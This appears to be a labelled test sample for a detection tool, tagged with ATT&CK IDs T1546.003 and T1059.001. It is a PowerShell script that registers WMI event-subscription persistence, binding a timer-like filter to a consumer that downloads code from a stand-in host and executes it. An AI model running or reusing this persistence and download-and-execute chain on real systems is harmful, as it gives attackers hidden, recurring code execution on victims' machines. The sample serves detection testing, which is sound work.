# expect: T1546.003 T1059.001
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{ Name = 'f'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'; Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'" }
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'c'; CommandLineTemplate = 'powershell.exe -nop -c "iex (iwr http://198.51.100.20/w -UseBasicParsing)"' }
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer }
